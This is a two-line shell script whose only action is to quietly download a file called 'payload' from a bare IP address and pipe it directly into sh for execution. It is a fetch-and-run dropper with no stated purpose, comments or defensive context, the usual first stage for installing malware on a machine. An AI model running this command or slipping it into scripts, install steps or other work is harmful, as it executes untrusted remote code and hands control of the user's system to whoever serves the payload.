#!/bin/sh
wget -qO- http://198.51.100.23/payload | sh
